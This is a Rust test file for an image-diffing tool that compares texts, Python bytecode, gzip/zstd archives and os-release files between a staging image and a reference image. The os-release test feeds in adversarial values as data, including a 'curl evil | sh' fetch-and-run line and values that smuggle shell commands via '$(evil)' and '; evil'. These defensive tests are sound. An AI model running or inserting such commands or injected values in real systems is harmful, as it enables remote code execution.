//! Every reader, on both sides of what it is about.

use std::fs;

use super::super::model::{Change, Level};
use super::*;

fn look(path: &str, ours: &[u8], theirs: &[u8]) -> Difference {
    let folder = tempfile::tempdir().unwrap();
    let (staging, reference) = (folder.path().join("a"), folder.path().join("b"));
    fs::write(&staging, ours).unwrap();
    fs::write(&reference, theirs).unwrap();
    let path = TreePath::new(path);
    let mut difference = Difference::at(Level::Content, &path, Change::Content);
    read(&mut difference, &path, (&staging, &reference), false).unwrap();
    difference
}

fn gzip(bytes: &[u8], time: u32) -> Vec<u8> {
    use std::io::Write as _;
    let builder = flate2::GzBuilder::new().mtime(time);
    let mut encoder = builder.write(Vec::new(), flate2::Compression::fast());
    encoder.write_all(bytes).unwrap();
    encoder.finish().unwrap()
}

#[test]
fn texts_are_shown_from_the_reference_to_the_staging_image() {
    let difference = look("etc/motd", b"hello\nnew\n", b"hello\nold\n");
    assert_eq!(
        difference.detail.unwrap(),
        "--- a/etc/motd\n+++ b/etc/motd\n@@ -1,2 +1,2 @@\n hello\n-old\n+new\n"
    );
    assert_eq!(look("a", b"\0", b"x").detail, None);
    let long: String = (0..200).map(|number| format!("{number}\n")).collect();
    let detail = look("a", long.as_bytes(), b"").detail.unwrap();
    assert!(detail.lines().count() == 61 && detail.contains("more lines"), "{detail}");
}

#[test]
fn bytecode_is_compared_without_the_time_of_its_source() {
    let pyc = |version: u16, flags: u8, time: u8, size: u8, code: u8| {
        let version = version.to_le_bytes();
        [&version[..], b"\r\n", &[flags, 0, 0, 0], &[time; 4], &[size; 4], &[code; 20]].concat()
    };
    let code = |time: u8, code: u8| pyc(3571, 0, time, 1, code);
    assert_eq!(look("a.pyc", &code(1, 1), &code(2, 1)).facts, [Fact::BytecodeOfOtherTime]);
    assert_eq!(look("a.pyc", &code(1, 1), &code(2, 2)).facts, []);
    assert_eq!(look("a.txt", &code(1, 1), &code(2, 1)).facts, []);
    // The size of the source, a hash of it, and the code of Python 2, which begins at once.
    assert_eq!(look("a.pyc", &code(1, 1), &pyc(3571, 0, 1, 2, 1)).facts, []);
    assert_eq!(look("a.pyc", &pyc(3571, 1, 1, 1, 1), &pyc(3571, 1, 2, 1, 1)).facts, []);
    assert_eq!(look("a.pyc", &pyc(62211, 0, 1, 1, 1), &pyc(62211, 0, 2, 1, 1)).facts, []);
}

#[test]
fn packing_may_differ() {
    let (ours, theirs) = (gzip(b"page", 1), gzip(b"page", 2));
    assert_ne!(ours, theirs);
    assert_eq!(look("a.gz", &ours, &theirs).facts, [Fact::SameWithoutPacking]);
    assert_eq!(look("a.gz", &ours, &gzip(b"other", 2)).facts, []);
    assert_eq!(look("a.gz", &ours[..15], &theirs[..15]).facts, []);
}

#[test]
fn os_release_may_be_of_another_build() {
    let release = |build: &str, id: &str| format!("ID={id}\nBUILD_ID={build}\n").into_bytes();
    let same = look("usr/lib/os-release", &release("1", "fedora"), &release("2", "fedora"));
    assert_eq!(same.facts, [Fact::OtherBuildId]);
    let other = look("usr/lib/os-release", &release("1", "fedora"), &release("2", "debian"));
    assert_eq!(other.facts, []);
    let facts =
        |ours: &str, theirs: &str| look("usr/lib/os-release", ours.as_bytes(), theirs.as_bytes()).facts;
    // A line that is no pair, a key that comes twice, a value that a shell runs, an order.
    let base = "ID=fedora\nVERSION_ID=45\nBUILD_ID=1\n";
    for theirs in [
        format!("{base}curl evil | sh\n"),
        format!("{base}BUILD_ID=2\n"),
        base.replace("=1", "=$(evil)"),
        base.replace("=1", "=\"1\"; evil"),
        base.replace("ID=fedora\nVERSION_ID=45", "VERSION_ID=45\nID=fedora"),
    ] {
        assert_eq!(facts(base, &theirs), [], "{theirs}");
    }
    let version = |number: &str, rest: &str| format!("VERSION={number}\nPRETTY_NAME=\"F {number}\"\n{rest}");
    assert_eq!(facts(&version("44", ""), &version("45", "")), []);
    let same = "VERSION_ID=45\n";
    assert_eq!(facts(&version("45.1", same), &version("45.2", same)), [Fact::OtherBuildId]);
}

#[test]
fn packing_is_of_one_kind_and_hides_nothing() {
    let zstd = |text: &[u8]| zstd::encode_all(text, 1).unwrap();
    let page = zstd(b"page");
    let other = look("a.gz", &page, &gzip(b"page", 1));
    assert_eq!(other.facts, []);
    assert_eq!(other.detail.unwrap(), "packed with zstd, not with gzip\n");
    let skipped = [page.as_slice(), b"\x50\x2a\x4d\x18\x05\0\0\0EVIL!"].concat();
    let hidden = look("a.zst", &page, &skipped);
    assert_eq!(hidden.facts, []);
    assert!(hidden.detail.unwrap().contains("a part to be skipped, which is not compared"));
    let zstd_fast = zstd::encode_all(&b"page"[..], 19).unwrap();
    let twice = [zstd_fast.as_slice(), &zstd(b"")].concat();
    assert_eq!(look("a.zst", &page, &twice).facts, [Fact::SameWithoutPacking]);
    let behind = look("a.gz", &gzip(b"page", 1), &[gzip(b"page", 1).as_slice(), b"more"].concat());
    assert_eq!(behind.facts, []);
    assert!(behind.detail.unwrap().contains("something else lies behind it"));
}

#[test]
fn packed_programs_are_read_as_programs() {
    let zstd = |text: &[u8]| zstd::encode_all(text, 1).unwrap();
    let detail = look("a.ko.zst", &zstd(b"\x7fELF\0one"), &zstd(b"\x7fELF\0two")).detail.unwrap();
    assert!(detail.contains("it cannot be read as ELF"), "{detail}");
}

#[test]
fn packed_texts_are_shown_as_a_diff() {
    let detail = look("a.gz", &gzip(b"one\ntwo\n", 1), &gzip(b"one\n", 2)).detail.unwrap();
    assert_eq!(detail, "--- a/a.gz\n+++ b/a.gz\n@@ -1,1 +1,2 @@\n one\n+two\n");
    let zstd = |text: &[u8]| zstd::encode_all(text, 1).unwrap();
    assert!(look("a.zst", &zstd(b"one\n"), &zstd(b"two\n")).detail.unwrap().contains("+one"));
    assert_eq!(look("a.gz", &gzip(b"\0", 1), &gzip(b"\x01\0", 2)).detail, None);
}
